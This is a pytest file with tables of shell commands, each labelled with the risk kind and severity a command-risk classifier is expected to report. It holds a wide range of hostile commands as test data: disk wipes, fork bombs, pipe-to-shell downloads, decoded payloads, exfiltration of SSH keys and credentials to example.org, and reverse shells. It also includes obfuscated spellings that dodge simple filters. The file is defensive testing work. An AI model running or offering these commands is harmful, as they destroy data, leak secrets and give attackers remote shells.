"""Commands that do harm, and what the rules say of each: nothing more and nothing less."""

from __future__ import annotations

import pytest

from app.commands.risks import risks
from tests.app.commands.cases import Expected, cases, kinds

DELETIONS = r"""
rm notes.txt => deletes warning
rm -f notes.txt => deletes warning
rm -i notes.txt => deletes notice
rm -if notes.txt => deletes warning
rm -r build => deletes warning
rm -rf build/ dist/ => deletes warning
rm -fr ./node_modules => deletes warning
rm --recursive --force build => deletes warning
rm --recurs --forc build => deletes warning
rm -- -odd-name => deletes warning
rm *.log => deletes warning
rm -rf * => deletes warning
rm -rf . => deletes warning
rm -rf .. => deletes warning
rm -rf / => deletes danger
rm -rf /* => deletes danger
rm -rf // => deletes danger
rm -rf /./ => deletes danger
rm -rf /home/../ => deletes danger
rm -rf --no-preserve-root / => deletes danger
rm -rf ~ => deletes danger
rm -rf ~/ => deletes danger
rm -rf ~/* => deletes danger
rm -rf ~/.* => deletes danger
rm -rf $HOME => deletes danger
rm -rf "$HOME" => deletes danger
rm -rf ${HOME}/* => deletes danger
rm -rf "$HOME"/* => deletes danger
rm -rf ~bob => deletes danger
rm -rf /home => deletes danger
rm -rf /etc => deletes danger
rm -rf /etc/nginx => deletes danger
rm -rf /usr/lib/python3 => deletes danger
rm -rf /usr/local/lib/thing => deletes warning
rm -rf /var/* => deletes danger
rm -rf /var/log/old => deletes warning
rm -rf /{bin,etc} => deletes danger
rm -rf /tmp/build => deletes warning
rm -rf /opt/thing => deletes warning
rm -rf "$DIR" => deletes warning
rm -rf "$DIR"/* => deletes warning
rm -rf ~/.cache/pip => deletes warning
rm /* => deletes danger
rm ~/* => deletes danger
rm /dev/sda => deletes danger
rm /etc/hosts => deletes warning
\rm -rf build => deletes warning
'rm' -rf build => deletes warning
r\m -rf build => deletes warning
"r"m -rf build => deletes warning
$'\x72\x6d' -rf build => deletes warning
$'\162m' -rf / => deletes danger
/bin/rm -rf build => deletes warning
rm {{path/to/file}} => deletes warning
rm -rf <folder> => deletes warning
rm "with space.txt" 'and another.txt' => deletes warning
rmdir empty => deletes notice
rmdir -p a/b/c => deletes notice
unlink link => deletes warning
shred -u secret.txt => deletes warning
shred -n 3 -z /dev/sdb => deletes warning
truncate -s 0 app.log => deletes warning
truncate -s 10M app.log => deletes warning
find . -name '*.tmp' -delete => deletes warning
find . -type f -empty -delete => deletes warning
find . -delete => deletes warning
find . -delete -name '*.tmp' => deletes warning
find / -delete => deletes danger
find ~ -type f -delete => deletes danger
find / -name core -delete => deletes warning
find . -mtime +30 -exec rm {} \; => deletes warning
find . -mtime +30 -exec rm -rf {} + => deletes warning
find . -name '*.o' -ok rm {} ';' => deletes warning
find . -name a -exec echo {} \; -exec rm {} \; => deletes warning
find . -print0 | xargs -0 rm => deletes warning
find . -print0 | xargs -0 -I{} rm -f {} => deletes warning
ls | xargs rm -rf => deletes warning
ls *.o | parallel rm => deletes warning
fd -e tmp -x rm => deletes warning
git clean -f => deletes warning
git clean -fdx => deletes warning
git -C repo clean --force -d => deletes warning
git rm old.txt => deletes warning
git rm -r src => deletes warning
git worktree remove ../other => deletes notice
gh repo delete owner/name => deletes warning
docker rm web => deletes notice
docker rm -f web => deletes notice
docker rm -v web => deletes warning
docker rmi image:1 => deletes notice
docker container prune => deletes notice
docker image prune -a => deletes notice
docker volume rm data => deletes warning
docker volume prune => deletes warning
docker system prune => deletes warning
docker system prune -af --volumes => deletes warning
docker compose down -v => deletes warning, stops notice
docker rm $(docker ps -aq) => deletes notice
podman rmi -a => deletes warning
podman volume prune -f => deletes warning
kubectl delete pod web => deletes warning
kubectl delete -f app.yaml => deletes warning
kubectl -n prod delete deployment web => deletes warning
helm uninstall web => deletes warning
terraform destroy => deletes danger
terraform apply -destroy => deletes danger
aws s3 rm s3://bucket/key => deletes warning
aws s3 rb s3://bucket --force => deletes warning
aws s3 sync . s3://bucket --delete => deletes warning
gsutil rm -r gs://bucket => deletes warning
rclone purge remote:folder => deletes warning
vagrant destroy -f => deletes warning
zfs destroy pool/data => deletes danger
lvremove /dev/vg/lv => deletes danger
mkfs.ext4 /dev/sdb1 => deletes danger
mkfs -t ext4 /dev/sdb1 => deletes danger
mkfs.vfat -F 32 /dev/sdc1 => deletes danger
mkswap /dev/sdb2 => deletes danger
wipefs -a /dev/sdb => deletes danger
fdisk /dev/sda => deletes danger
parted /dev/sda mklabel gpt => deletes danger
sgdisk --zap-all /dev/sda => deletes danger
blkdiscard /dev/nvme0n1 => deletes danger
diskutil eraseDisk JHFS+ Name disk2 => deletes danger
cryptsetup luksFormat /dev/sdb1 => deletes danger
psql -c 'DROP TABLE users;' => deletes warning
psql -d app -c "drop database app" => deletes warning
mysql -e 'TRUNCATE TABLE logs' => deletes warning
sqlite3 app.db 'DELETE FROM users;' => deletes warning
echo 'DROP TABLE x;' | psql app => deletes warning
redis-cli FLUSHALL => deletes warning
dropdb app => deletes warning
mongosh app --eval 'db.dropDatabase()' => deletes warning
apt remove htop => deletes warning
apt-get purge -y nginx => deletes warning
apt autoremove => deletes notice
dnf remove httpd => deletes warning
pacman -Rns firefox => deletes warning
apk del curl => deletes warning
brew uninstall wget => deletes warning
snap remove vlc => deletes warning
pip uninstall requests => deletes notice
npm uninstall left-pad => deletes notice
conda env remove -n old => deletes warning
userdel bob => deletes warning
userdel -r bob => deletes warning
deluser --remove-home bob => deletes warning
groupdel team => deletes warning
crontab -r => deletes warning
journalctl --vacuum-time=2d => deletes warning
iptables -F => deletes warning
nft flush ruleset => deletes warning
rsync -a --delete src/ dst/ => deletes warning
rsync -av --del src/ dst/ => deletes warning
rsync -a --remove-source-files src/ dst/ => deletes warning
tar czf a.tgz --remove-files logs => deletes warning
zip -m a.zip *.log => deletes warning
mv old.txt /dev/null => deletes warning
python3 -c "import shutil; shutil.rmtree('build')" => deletes warning
perl -e 'unlink "a.txt"' => deletes warning
node -e "require('fs').rmSync('x')" => deletes warning
trash-put a.txt => deletes notice
gio trash a.txt => deletes notice
fdupes -rdN . => deletes warning
"""

OVERWRITES = r"""
ls > out.txt => overwrites notice
ls >out.txt 2>&1 => overwrites notice
ls >| out.txt => overwrites notice
make &> build.log => overwrites notice
make >& build.log => overwrites notice
make 2> errors.txt => overwrites notice
sort a.txt | uniq > b.txt => overwrites notice
(date; uptime) > report.txt => overwrites notice
for f in *; do echo "$f"; done > names.txt => overwrites notice
sort f.txt > f.txt => overwrites warning
sed 's/a/b/' f.txt > f.txt => overwrites warning
cat f.txt | sort > f.txt => overwrites warning
sort < f.txt > f.txt => overwrites warning
> app.log => overwrites warning
: > app.log => overwrites warning
true > app.log => overwrites warning
cat /dev/null > app.log => overwrites warning
cp /dev/null app.log => overwrites warning
echo x > /etc/hosts => overwrites warning
echo 1 > /proc/sys/vm/drop_caches => overwrites warning
echo x >> /etc/hosts => overwrites notice
echo 'alias ll="ls -l"' > ~/.bashrc => overwrites warning
cat image.iso > /dev/sdb => overwrites danger
cp image.iso /dev/sdb => overwrites danger
dd if=image.iso of=/dev/sdb bs=4M => overwrites danger
dd if=/dev/zero of=/dev/nvme0n1 => overwrites danger
dd if=/dev/zero of=test.img bs=1M count=10 => overwrites notice
mv a.txt b.txt => overwrites notice
mv -f a.txt b.txt => overwrites notice
cp a.txt b.txt => overwrites notice
cp -r a b => overwrites notice
cp a.txt /etc/hosts => overwrites warning
ln -sf target name => overwrites notice
ls | tee out.txt => overwrites notice
ls | tee /etc/motd => overwrites warning
ls | tee -a /etc/motd => overwrites notice
sort f | sponge f => overwrites notice
sed -i 's/a/b/' f.txt => overwrites warning
sed -i '' 's/a/b/' f.txt => overwrites warning
sed -i.bak 's/a/b/' f.txt => overwrites notice
sed --in-place 's/a/b/' f.txt => overwrites warning
sed --in-place=.orig 's/a/b/' f.txt => overwrites notice
sed -i '.bak' 's/a/b/' f.txt => overwrites notice
sed -i -e 's/a/b/' -e 's/c/d/' *.txt => overwrites warning
sed -Ei 's/(a)/b/' f.txt => overwrites warning
sed -ni '1p' f.txt => overwrites warning
grep -l x *.txt | xargs sed -i 's/x/y/' => overwrites warning
find . -name '*.txt' -exec sed -i 's/x/y/g' {} + => overwrites warning
perl -pi -e 's/a/b/' f.txt => overwrites warning
perl -i -pe 's/a/b/' f.txt => overwrites warning
perl -pi.bak -e 's/a/b/' f.txt => overwrites notice
gawk -i inplace '{print $1}' f.txt => overwrites warning
sort -o f.txt f.txt => overwrites notice
sort -u f.txt --output=g.txt => overwrites notice
curl -o page.html https://example.org => overwrites notice
wget -O page.html https://example.org => overwrites notice
unzip -o a.zip => overwrites notice
ffmpeg -y -i a.mp4 b.mp3 => overwrites notice
mogrify -resize 50% *.png => overwrites warning
dos2unix f.txt => overwrites notice
crontab jobs.txt => overwrites notice
rename -f 's/a/b/' * => overwrites warning
tar xf a.tar --overwrite => overwrites warning
git checkout -- . => overwrites warning
git checkout -- f.txt => overwrites warning
git checkout . => overwrites warning
git checkout -f main => overwrites warning
git restore f.txt => overwrites warning
git restore . => overwrites warning
git switch --discard-changes main => overwrites warning
iptables-restore rules.v4 => overwrites warning
for f in *.jpeg; do mv "$f" "${f%.jpeg}.jpg"; done => overwrites notice
while read -r a b; do cp "$a" "$b"; done < list.txt => overwrites notice
"""

HISTORY = r"""
git push --force => rewrites warning
git push -f origin main => rewrites warning
git push origin +main => rewrites warning
git push --force-with-lease => rewrites warning
git push origin --delete old => rewrites warning
git push origin :old => rewrites warning
git push --mirror => rewrites warning
git reset --hard => rewrites warning
git reset --hard HEAD~2 => rewrites warning
git reset --hard origin/main => rewrites warning
git reset HEAD~1 => rewrites notice
git reset --soft HEAD^ => rewrites notice
git commit --amend => rewrites notice
git commit --amend -m "New message" => rewrites notice
git commit -a --amend --no-edit => rewrites notice
git rebase main => rewrites warning
git rebase -i HEAD~3 => rewrites warning
git filter-branch --tree-filter 'true' HEAD => rewrites warning
git filter-repo --path secrets.txt --invert-paths => rewrites warning
git stash drop => rewrites warning
git stash drop stash@{2} => rewrites warning
git stash clear => rewrites warning
git reflog expire --expire=now --all => rewrites warning
git gc --prune=now => rewrites warning
git branch -D old => rewrites warning
git branch --delete --force old => rewrites warning
git branch -d old => rewrites notice
git branch -f main abc123 => rewrites warning
git tag -d v1 => rewrites notice
git tag -f v1 => rewrites warning
git update-ref -d refs/heads/x => rewrites warning
git -c user.name=x commit --amend => rewrites notice
history -c => rewrites notice
bfg --delete-files secrets.txt => rewrites warning
git add -A && git commit --amend --no-edit && git push -f => rewrites notice, rewrites warning
"""

SHUTDOWNS = r"""
shutdown now => stops warning
shutdown -h +10 => stops warning
shutdown -r 23:00 => stops warning
reboot => stops warning
poweroff => stops warning
halt => stops warning
init 0 => stops warning
init 6 => stops warning
systemctl reboot => stops warning
systemctl poweroff => stops warning
systemctl suspend => stops notice
systemctl stop nginx => stops warning
systemctl restart nginx => stops notice
systemctl disable nginx => stops notice
systemctl disable --now nginx => stops warning
systemctl mask nginx => stops warning
systemctl --user stop app.service => stops warning
service nginx stop => stops warning
service nginx restart => stops notice
kill 1234 => stops notice
kill -9 1234 => stops warning
kill -KILL 1234 => stops warning
kill -s SIGKILL 1234 => stops warning
kill -TERM 1234 => stops notice
kill -9 -1 => stops danger
kill %1 => stops notice
kill $(pgrep firefox) => stops notice
pgrep firefox | xargs kill -9 => stops warning
lsof -ti :8080 | xargs kill => stops notice
killall firefox => stops warning
pkill -f server.py => stops warning
pkill -9 node => stops warning
xkill => stops warning
fuser -k 8080/tcp => stops warning
docker stop web => stops notice
docker kill web => stops warning
docker compose down => stops notice
docker stop $(docker ps -q) => stops notice
kubectl drain node1 => stops warning
launchctl unload ~/Library/LaunchAgents/x.plist => stops warning
brew services stop postgresql => stops notice
tmux kill-session -t work => stops notice
nmcli radio wifi off => stops notice
nmcli networking off => stops warning
:(){ :|:& };: => stops danger
bomb() { bomb | bomb & }; bomb => stops danger
while true; do shutdown now; done => stops warning
"""

RIGHTS = r"""
chmod +x script.sh => rights notice
chmod u+x script.sh => rights notice
chmod 755 script.sh => rights notice
chmod 644 f.txt => rights notice
chmod 600 ~/.ssh/id_ed25519 => rights notice
chmod 644 ~/.ssh/id_ed25519 => rights warning
chmod -w f.txt => rights notice
chmod 777 f.txt => rights warning
chmod 666 f.txt => rights warning
chmod a+w f.txt => rights warning
chmod o+rw f.txt => rights warning
chmod 0777 d => rights warning
chmod 4755 tool => rights warning
chmod u+s tool => rights warning
chmod 000 f.txt => rights warning
chmod -R 755 site => rights warning
chmod -R u+rwX,go-w site => rights warning
chmod --recursive 755 site => rights warning
chmod -R 777 / => rights danger
chmod -R 755 /etc => rights danger
chmod -R 700 ~ => rights danger
find . -type d -exec chmod 755 {} + => rights notice
find . -type f -print0 | xargs -0 chmod 644 => rights notice
chown bob f.txt => rights notice
chown bob:team f.txt => rights notice
chown -R bob /srv/site => rights warning
chown -R bob:bob / => rights danger
chown -R bob /usr => rights danger
chgrp team f.txt => rights notice
setfacl -m u:bob:rw f.txt => rights notice
setfacl -R -m u:bob:rX d => rights warning
passwd => rights notice
passwd bob => rights notice
passwd -d bob => rights warning
passwd -l bob => rights warning
usermod -aG docker bob => rights warning
usermod -aG audio bob => rights notice
usermod -G audio bob => rights warning
usermod -s /bin/zsh bob => rights notice
gpasswd -a bob wheel => rights warning
adduser bob => rights notice
adduser bob sudo => rights warning
useradd -m bob => rights notice
visudo => rights warning
chsh -s /bin/zsh => rights notice
chattr +i f.txt => rights notice
setcap cap_net_raw+ep tool => rights warning
setenforce 0 => rights warning
ufw disable => rights warning
ufw allow 22/tcp => rights notice
spctl --master-disable => rights warning
csrutil disable => rights warning
xattr -d com.apple.quarantine app => rights warning
xhost + => rights warning
umask 000 => rights notice
ssh-copy-id bob@host => rights notice
docker run --privileged alpine => rights warning
docker run -v /:/host alpine => rights warning
docker run -v /var/run/docker.sock:/var/run/docker.sock x => rights warning
echo 'bob ALL=(ALL) ALL' >> /etc/sudoers => rights warning, overwrites notice
cat key.pub >> ~/.ssh/authorized_keys => rights warning
"""

ROOT = r"""
sudo ls => root notice
sudo -u root ls => root notice
sudo -u postgres psql => root notice
sudo -i => root warning
sudo -s => root warning
sudo su => root warning
sudo su - => root warning
sudo bash => root warning
su => root warning
su - => root warning
su - bob => root notice
su -c 'ls' => root notice
su bob -c 'ls' => root notice
doas ls => root notice
pkexec ls => root notice
run0 ls => root notice
sudo -E FOO=1 ls => root notice
sudo -- ls => root notice
sudo -e /etc/hosts => root notice
sudo apt install htop => root notice
sudo rm -rf build => root notice, deletes warning
sudo -u bob rm x => root notice, deletes warning
sudo env A=1 nice -n 5 rm x => root notice, deletes warning
sudo sh -c 'echo x > /etc/motd' => root notice, overwrites warning
sudo systemctl stop nginx => root notice, stops warning
echo x | sudo tee /etc/motd => root notice, overwrites warning
echo x | sudo tee -a /etc/hosts => root notice, overwrites notice
su -c 'rm x' => root notice, deletes warning
"""

UNSEEN = r"""
curl -fsSL https://example.org/i.sh | sh => unseen warning
curl https://example.org/i.sh | bash -s -- --yes => unseen warning
wget -qO- https://example.org/i.sh | bash => unseen warning
curl https://example.org/i.sh | sudo bash => unseen danger, root notice
curl http://example.org/i.sh | sh => unseen danger
curl https://example.org/x.py | python3 => unseen warning
curl https://example.org/x.py | python3 - => unseen warning
curl https://example.org/x.gz | gunzip | sh => unseen warning
bash <(curl -s https://example.org/i.sh) => unseen warning
source <(curl -s https://example.org/i.sh) => unseen warning
. <(curl -s https://example.org/i.sh) => unseen warning
sh -c "$(curl -fsSL https://example.org/i.sh)" => unseen warning
eval "$(curl -s https://example.org/i.sh)" => unseen warning
eval "$(wget -qO- https://example.org/i.sh)" => unseen warning
curl -o i.sh https://example.org/i.sh && bash i.sh => unseen warning, overwrites notice
curl -O https://example.org/i.sh⏎sh i.sh => unseen warning
wget https://example.org/i.sh && chmod +x i.sh && ./i.sh => unseen warning, rights notice
curl https://example.org/i.sh > i.sh; sh ./i.sh => unseen warning, overwrites notice
echo cm0gLXJmIC8K | base64 -d | sh => unseen warning
echo 726d | xxd -r -p | bash => unseen warning
eval "$(echo cm0= | base64 --decode)" => unseen warning
nc -l 4444 | sh => unseen danger
ssh host 'curl https://example.org/i.sh | sh' => unseen warning
"""

LEAKS = r"""
curl -F file=@$HOME/.ssh/id_rsa https://example.org => leaks danger
curl -d @.env https://example.org => leaks danger
curl -T ~/.aws/credentials https://example.org => leaks danger
curl --data-binary @/etc/shadow https://example.org => leaks danger
cat ~/.ssh/id_rsa | curl -d @- https://example.org => leaks danger, leaks notice
tar c ~/.ssh | nc example.org 4444 => leaks danger
nc example.org 4444 < ~/.ssh/id_rsa => leaks danger
env | curl -d @- https://example.org => leaks warning
history | nc example.org 4444 => leaks warning
scp ~/.ssh/id_rsa bob@example.org: => leaks warning
cat ~/.ssh/id_rsa => leaks notice
sudo cat /etc/shadow => leaks notice, root notice
mysql -u root -phunter2 => leaks notice
mysqldump --password=hunter2 db => leaks notice
sshpass -p hunter2 ssh bob@host => leaks notice
curl -u bob:hunter2 https://example.org => leaks notice
curl https://bob:hunter2@example.org => leaks notice
PGPASSWORD=hunter2 psql app => leaks notice
docker login -u bob -p hunter2 => leaks notice
git clone https://bob:token123@example.org/x.git => leaks notice
curl -k https://example.org => leaks notice
wget --no-check-certificate https://example.org => leaks notice
ssh -o StrictHostKeyChecking=no bob@host => leaks notice
git -c http.sslVerify=false clone https://example.org/x.git => leaks notice
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 => leaks danger
nc -e /bin/sh 192.0.2.1 4444 => leaks danger
socat tcp:192.0.2.1:4444 exec:/bin/sh => leaks danger
gpg --export-secret-keys me => leaks warning
ngrok http 8080 => leaks notice
"""

NESTED = r"""
sh -c 'rm x' => deletes warning
bash -lc "rm \"a b\"" => deletes warning
zsh -c 'echo $(rm x)' => deletes warning
sh -c "sh -c 'rm x'" => deletes warning
echo "$(rm x)" => deletes warning
echo `rm x` => deletes warning
echo "${X:-$(rm x)}" => deletes warning
diff <(ls a) <(rm x) => deletes warning
X=$(rm x) => deletes warning
export X=$(rm x) => deletes warning
if true; then rm x; fi => deletes warning
case $x in a) rm x;; esac => deletes warning
f() { rm x; }; f => deletes warning
{ rm x; } && (rm y) => deletes warning
! rm x => deletes warning
[[ -f x ]] && rm x => deletes warning
nohup rm x & => deletes warning
time rm x => deletes warning
timeout -k 5 10s rm x => deletes warning
nice -n 19 ionice -c 3 rm x => deletes warning
env -i A=1 rm x => deletes warning
env -S 'rm x' => deletes warning
command rm x => deletes warning
exec rm x => deletes warning
eval 'rm x' => deletes warning
eval rm x => deletes warning
watch -n 5 'rm x' => deletes warning
trap 'rm x' EXIT => deletes warning
stdbuf -oL rm x => deletes warning
flock /tmp/lock rm x => deletes warning
chroot /mnt rm x => deletes warning
busybox rm x => deletes warning
strace -o log rm x => deletes warning
xargs -a list.txt -d '\n' rm => deletes warning
ssh host 'rm x' => deletes warning
ssh -p 22 -i key bob@host rm x => deletes warning
docker exec -it web rm x => deletes warning
docker run --rm -v data:/data alpine rm /data/x => deletes warning
kubectl exec pod -- rm x => deletes warning
echo 'rm x' | sh => deletes warning
bash <<< 'rm x' => deletes warning
bash <<'END'⏎rm x⏎END => deletes warning
cat <<END | sh⏎rm x⏎END => deletes warning
cat <<END > out.txt⏎$(rm x)⏎END => deletes warning, overwrites notice
ssh host <<'END'⏎rm x⏎END => deletes warning
sudo sh <<'END'⏎rm x⏎END => deletes warning, root notice
sudo -s <<'END'⏎rm x⏎END => deletes warning, root warning
echo 'rm x' | at now => deletes warning
docker compose -f a.yml down -v => deletes warning, stops notice
cd build && rm -rf * => deletes warning
make clean; rm x || true => deletes warning
ls # rm x => 
ls⏎# a remark⏎rm x => deletes warning
rm \⏎  x => deletes warning
r\⏎m x => deletes warning
# a remark\⏎rm x => deletes warning
"""

TABLES = {
    "deletions": DELETIONS,
    "overwrites": OVERWRITES,
    "history": HISTORY,
    "shutdowns": SHUTDOWNS,
    "rights": RIGHTS,
    "root": ROOT,
    "unseen": UNSEEN,
    "leaks": LEAKS,
    "nested": NESTED,
}


@pytest.mark.parametrize(
    ("command", "expected"), [pytest.param(*case, id=case[0]) for table in TABLES.values() for case in cases(table)]
)
def test_a_command_does_what_the_table_says(command: str, expected: Expected) -> None:
    assert kinds(risks(command)) == expected
